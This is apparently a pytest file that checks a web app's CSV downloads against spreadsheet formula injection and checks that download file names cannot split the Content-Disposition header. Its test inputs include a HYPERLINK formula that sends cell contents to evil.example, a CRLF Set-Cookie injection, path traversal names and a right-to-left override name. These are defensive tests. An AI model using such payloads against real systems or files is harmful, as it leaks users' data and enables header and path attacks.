"""Downloads in the web UI: CSV files a spreadsheet opens safely, file names that cannot
split the Content-Disposition header (RFC 6266 / RFC 5987)."""

import csv
import io
from urllib.parse import unquote

import pytest
from _web import lattice_points
from _web import login
from _web import s02_grid
from _web import upload

from gridplan.web.views.downloads import attachment

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def officer(client, web_store):
    """The test client, logged in as S02's officer (the small lattice station), in English."""
    client.get("/lang/en")
    login(client, web_store["users"][("S02", "officer")])
    return client


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    ("name", "ascii_name", "kept"),
    [
        ("S02-grid-v3.csv", "S02-grid-v3.csv", "S02-grid-v3.csv"),
        ("警情导出-rejected.csv", "____-rejected.csv", "警情导出-rejected.csv"),
        ('a"b\r\nSet-Cookie: x=1.csv', "a_bSet-Cookie_ x_1.csv", 'a"bSet-Cookie: x=1.csv'),
        ("..\\..\\evil.csv", "evil.csv", "evil.csv"),
        ("../../etc/passwd", "passwd", "passwd"),
        ("\u202etxt.exe", "txt.exe", "txt.exe"),
        ("", "download", "download"),
        ("长" * 400 + ".csv", "_" * 146 + ".csv", "长" * 146 + ".csv"),
    ],
)
def test_a_file_name_cannot_split_the_header_or_choose_a_folder(name, ascii_name, kept):
    value = attachment(name)
    assert value.isprintable() and value.isascii()
    plain, star = value.split("; filename*=UTF-8''")
    assert plain == f'attachment; filename="{ascii_name}"'
    assert unquote(star) == kept and "/" not in star and " " not in star


def test_the_rejected_rows_download_quotes_formulas_and_keeps_numbers(officer):
    p = lattice_points(officer)[0]
    lines = [
        "编号,经度,纬度,时间,类别",
        f"J1,{p.x:.6f},{p.y:.6f},2024/3/1 8:05:00,盗窃",
        f"J2,{p.x:.6f},{p.y:.6f},{HYPERLINK.replace(',', ';')},盗窃",
        f"J3,-999.5,{p.y:.6f},2024/3/1 8:05:00,+1+1",
    ]
    name = "=cmd!A0 警情.csv"
    resp = upload(officer, "incidents", name, ("\n".join(lines) + "\n").encode("utf-8"))
    assert resp.status_code == 302, resp.get_data(as_text=True)
    html = officer.get(resp.headers["Location"]).get_data(as_text=True)
    url = next(p.split('"')[0] for p in html.split('href="') if "rejects.csv" in p.split('"')[0])
    got = officer.get(url)
    assert got.status_code == 200
    header = got.headers["Content-Disposition"]
    assert header == attachment("=cmd!A0 警情-rejected.csv") and header.count('"') == 2
    rows = _rows(got.data)
    cells = [c for row in rows[1:] for c in row]
    assert "'" + HYPERLINK.replace(",", ";") in cells
    assert HYPERLINK.replace(",", ";") not in cells
    assert "-999.5" in cells  # a number stays a number
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]


def test_the_grid_csv_download_quotes_formulas(officer):
    grid = s02_grid(officer)
    micro = grid.index[grid["level"] == "micro"][0]
    grid.loc[micro, "name"] = HYPERLINK
    resp = upload(officer, "grid", "grid.geojson", grid.to_json().encode("utf-8"))
    assert resp.status_code == 302, resp.get_data(as_text=True)
    got = officer.get("/downloads/grid.csv")
    assert got.status_code == 200
    rows = _rows(got.data)
    column = rows[0].index("name")
    names = [row[column] for row in rows[1:]]
    assert "'" + HYPERLINK in names and HYPERLINK not in names
